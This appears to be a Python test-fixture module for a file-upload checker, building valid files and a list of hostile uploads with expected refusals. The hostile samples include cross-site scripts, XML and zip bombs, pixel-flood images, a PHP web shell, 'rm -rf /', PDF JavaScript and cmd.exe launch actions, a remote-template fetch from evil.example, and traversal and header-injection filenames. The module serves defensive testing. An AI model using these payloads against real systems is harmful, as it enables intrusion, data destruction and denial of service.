"""Files of every kind that is taken, and of every kind that an enemy, a mistake or a broken line may bring."""

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

from PIL import Image, PngImagePlugin

from portal.looking.kinds import Form, Refusal

MOST = 20 * 1024 * 1024
CONTENT_TYPES = b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="x"/></Types>'
WORDS = b"<?xml version='1.0'?><w:document xmlns:w='w'><w:body/></w:document>"
SCRIPT = b"<script>alert(document.cookie)</script>"


@dataclass(frozen=True)
class Hostile:
    """One file: what it is, what it is called, its bytes, and what becomes of it."""

    what: str
    name: str
    made: bytes | Callable[[], bytes]  # the heavy ones are made only when they are needed
    becomes: Form | Refusal

    @property
    def data(self) -> bytes:
        """The bytes of the file."""
        return self.made if isinstance(self.made, bytes) else self.made()


def picture(form: str = "JPEG", size: tuple[int, int] = (40, 30), **also: object) -> bytes:
    """Return a picture."""
    kept = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(kept, form, **also)
    return kept.getvalue()


def photograph_of_a_telephone() -> bytes:
    """Return a photograph that lies on its side and says where and by whom it was taken."""
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x9C9B] = 6, "Telephone of Amina", "Amina at home"
    exif.get_ifd(0x8825)[2] = (52.0, 38.0, 1.0)
    return picture(size=(60, 20), exif=exif, comment=b"Amina at home")


def heic() -> bytes:
    """Return a photograph of an iPhone."""
    import pillow_heif

    pillow_heif.register_heif_opener()
    return picture("HEIF", (64, 48))


def pdf(inside: bytes = b"") -> bytes:
    """Return a PDF of one empty page."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R" + inside + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
        b"trailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"
    )


def archive(entries: dict[str, bytes]) -> bytes:
    """Return a zip file."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as one:
        for name, data in entries.items():
            one.writestr(name, data)
    return kept.getvalue()


def docx(**more: bytes) -> bytes:
    """Return a Word document, with more inside."""
    return archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": WORDS, **more})


def odt(**more: bytes) -> bytes:
    """Return an OpenDocument text, with more inside."""
    mimetype = b"application/vnd.oasis.opendocument.text"
    return archive({"mimetype": mimetype, "content.xml": b"<?xml version='1.0'?><office/>", **more})


def box(name: bytes, *inside: bytes) -> bytes:
    """Return a box, as films, sounds and pictures of telephones are made of."""
    body = b"".join(inside)
    return struct.pack(">I", len(body) + 8) + name + body


def boxed(brand: bytes, *handlers: bytes) -> bytes:
    """Return a sound or a film with tracks of these kinds."""
    tracks = [box(b"trak", box(b"mdia", box(b"hdlr", bytes(8), handler, bytes(12)))) for handler in handlers]
    return box(b"ftyp", brand, bytes(4), b"isom") + box(b"moov", *tracks) + box(b"mdat", bytes(range(256)))


def mp3() -> bytes:
    """Return three frames of sound after a few words about it."""
    frame = b"\xff\xfb\x90\x00" + bytes(413)
    return b"ID3\x04\x00\x00\x00\x00\x00\x08" + b"TIT2aaaa" + frame * 3


def wav() -> bytes:
    """Return a short sound."""
    return b"RIFF" + struct.pack("<I", 44) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data"


def webm(codec: bytes = b"A_OPUS") -> bytes:
    """Return the beginning of what a browser records."""
    return b"\x1aE\xdf\xa3" + b"\x9fB\x86\x81\x01B\x82\x84webm" + bytes(8) + b"\x86\x86" + codec + b"O" * 400


def ogg(codec: bytes = b"OpusHead") -> bytes:
    """Return the beginning of a sound."""
    return b"OggS" + bytes(24) + codec + bytes(300)


@cache
def taken() -> dict[Form, bytes]:
    """Return a file of every form that is taken."""
    return {
        Form.JPEG: picture(),
        Form.PNG: picture("PNG"),
        Form.WEBP: picture("WEBP"),
        Form.GIF: picture("GIF"),
        Form.HEIC: heic(),
        Form.PDF: pdf(),
        Form.DOCX: docx(),
        Form.ODT: odt(),
        Form.TXT: "The night before. রাত।\r\nرات کو".encode(),
        Form.MP3: mp3(),
        Form.M4A: boxed(b"M4A ", b"soun"),
        Form.OGG: ogg(),
        Form.WEBM: webm(),
        Form.WAV: wav(),
        Form.AMR: b"#!AMR\n" + b"\x3c" + bytes(31),
        Form.THREE_GP: boxed(b"3gp4", b"soun"),
    }


def _flood(width: int, height: int) -> bytes:
    """Return a PNG of a hundred bytes that says that it has more dots than any memory."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(4096))) + chunk(b"IEND", b"")


def _talkative() -> bytes:
    """Return a PNG whose words about itself unpack to very many."""
    words = PngImagePlugin.PngInfo()
    words.add_text("Comment", "a" * 80_000_000, zip=True)
    return picture("PNG", pnginfo=words)


def _growing_archive() -> bytes:
    return archive(dict.fromkeys(("a.txt", "b.txt"), bytes(30_000_000)))


def _growing_document() -> bytes:
    return docx(**{f"word/media/{n}.bmp": bytes(30_000_000) for n in range(11)})


def _huge() -> bytes:
    return picture() + bytes(MOST)


def _laughs() -> bytes:
    lines = b"".join(b'<!ENTITY l%d "%s">' % (at, b"&l%d;" % (at - 1) * 10) for at in range(1, 9))
    return b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">' + lines + b"]><l>&l8;</l>"


def _tar() -> bytes:
    kept = io.BytesIO()
    with tarfile.open(fileobj=kept, mode="w:gz") as one:
        one.addfile(tarfile.TarInfo("../../etc/passwd"))
    return kept.getvalue()


@cache
def hostile() -> list[Hostile]:
    """Return all of them."""
    photograph, no = picture(), Refusal.NOT_THIS_KIND
    broken, program = Refusal.DOES_NOT_OPEN, Refusal.PROGRAM
    rules = b'Type="attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"'
    return [
        Hostile("empty", "photo.jpg", b"", Refusal.EMPTY),
        Hostile("only zeros", "photo.jpg", bytes(5000), Refusal.EMPTY),
        Hostile("one sign", "a.bin", b"\x01", no),
        Hostile("huge", "film.jpg", _huge, Refusal.TOO_LARGE),
        Hostile("words called a picture", "photo.jpg", b"Only words", Form.TXT),
        Hostile("a picture called words", "notes.txt", photograph, Form.JPEG),
        Hostile("a page called a picture", "photo.jpg", b"<!doctype html><html>" + SCRIPT, no),
        Hostile("a page called words", "notes.txt", b"\n\n <HTML><body onload=alert(1)>", no),
        Hostile("a script within words", "notes.txt", b"Dear panel, " + SCRIPT, no),
        Hostile("a drawing with script", "drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT, no),
        Hostile("a drawing called a picture", "a.png", b"\xef\xbb\xbf<?xml version='1.0'?><svg onload='a()'/>", no),
        Hostile("xml that grows", "laughs.xml", _laughs(), no),
        Hostile("an archive", "photos.zip", archive({"a.jpg": photograph}), no),
        Hostile("an archive that grows", "photos.zip", _growing_archive, no),
        Hostile("a document that grows", "letter.docx", _growing_document, broken),
        Hostile("a document of very many parts", "a.docx", docx(**{f"word/{n}": b"" for n in range(3100)}), broken),
        Hostile("a document with a program", "a.docx", docx(**{"word/vbaProject.bin": b"x"}), program),
        Hostile("a document that may run", "a.docm", docx(**{"word/activeX/activeX1.xml": b"x"}), program),
        Hostile(
            "a document that fetches",
            "a.docx",
            docx(**{"word/_rels/settings.xml.rels": b"<R " + rules + b"/>"}),
            program,
        ),
        Hostile(
            "a document that grows by words",
            "a.docx",
            archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": _laughs()}),
            broken,
        ),
        Hostile("another document with a program", "a.odt", odt(**{"Basic/Standard/Module1.xml": b"x"}), program),
        Hostile("half a document", "a.docx", docx()[:-40], broken),
        Hostile("a program", "photo.jpg.exe", b"MZ\x90\x00\x03" + bytes(200), no),
        Hostile("another program", "photo.jpg", b"\x7fELF\x02\x01\x01" + bytes(200), no),
        Hostile("a script", "read.txt", b"#!/bin/sh\nrm -rf /\n", no),
        Hostile("a list of orders", "read.txt", b"@echo off\r\ndel *\r\n", no),
        Hostile("a page that runs here", "a.php.jpg", b"GIF<?php system($_GET[0]); ?>", no),
        Hostile("a PDF that runs", "a.pdf", pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), program),
        Hostile("a PDF that runs and hides it", "a.pdf", pdf(b"/OpenAction<</S/J#61vaScript/JS(1)>>"), program),
        Hostile("a PDF with a file inside", "a.pdf", pdf(b"/Names<</EmbeddedFiles 9 0 R>>"), program),
        Hostile("a PDF that starts something", "a.pdf", pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), program),
        Hostile("half a PDF", "a.pdf", pdf()[:80], broken),
        Hostile("a PDF and an archive in one", "a.pdf", pdf() + archive({"a.js": b"1"}), no),
        Hostile("a page and a PDF in one", "a.pdf", b"<script>1</script>\n" + pdf(), no),
        Hostile("half a photograph", "photo.jpg", picture(size=(400, 300))[:3000], broken),
        Hostile("the beginning of a photograph", "photo.jpg", b"\xff\xd8\xff\xe0", broken),
        Hostile("a photograph and an archive in one", "photo.jpg", photograph + archive({"a.js": b"1"}), Form.JPEG),
        Hostile("a photograph that speaks", "photo.jpg", picture(comment=SCRIPT), Form.JPEG),
        Hostile("a picture and a script in one", "a.gif", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)", broken),
        Hostile("a flood of dots", "photo.png", _flood(65_000, 65_000), Refusal.TOO_FINE),
        Hostile("a flood of dots to one side", "photo.png", _flood(2_000_000, 50), Refusal.TOO_FINE),
        Hostile(
            "a flood of dots in a GIF", "a.gif", b"GIF89a\xff\xff\xff\xff\x80\x00\x00" + bytes(50), Refusal.TOO_FINE
        ),
        Hostile("a picture with endless words", "photo.png", _talkative, broken),
        Hostile("a broken picture", "a.webp", b"RIFF\x20\x00\x00\x00WEBPVP8 " + bytes(40), broken),
        Hostile(
            "a broken picture of an iPhone", "a.heic", box(b"ftyp", b"heic", bytes(4), b"mif1") + bytes(90), broken
        ),
        Hostile("a film", "film.mp4", boxed(b"isom", b"vide", b"soun"), Refusal.FILM),
        Hostile("a film of a browser", "film.webm", webm(b"V_VP9"), Refusal.FILM),
        Hostile("a sound without sound", "a.mp3", b"ID3\x04\x00\x00\x00\x00\x00\x08TIT2aaaa" + bytes(100), no),
        Hostile("an old document", "a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), no),
        Hostile("a document with objects", "a.rtf", b"{\\rtf1{\\object\\objemb}}", no),
        Hostile("a packed archive", "a.tar.gz", _tar(), no),
        Hostile("another packed archive", "a.gz", gzip.compress(photograph), no),
        *[Hostile(f"a name: {what}", name, photograph, Form.JPEG) for what, name in NAMES.items()],
    ]


NAMES = {
    "Bengali": "আমার মেয়ে.jpg",
    "Urdu": "میری بیٹی.jpg",
    "Gujarati, Punjabi, Arabic, Persian": "મારી ਧੀ ابنتي دخترم.jpg",
    "signs of feeling": "👶🏽💔.jpg",
    "turned round": "photo\u202egpj.exe",
    "a way up": "../../../../etc/passwd",
    "a way on another system": "C:\\Users\\Amina\\..\\photo.jpg",
    "a sign that ends it": "photo.jpg\x00.html",
    "300 signs": "a" * 300 + ".jpg",
    "a header": 'a"\r\nSet-Cookie: family=evil\r\n.jpg',
    "markup": "<img src=x onerror=alert(1)>.jpg",
    "our own marks": "\ue000photo\ue001.jpg",
    "only spaces": "   ",
}
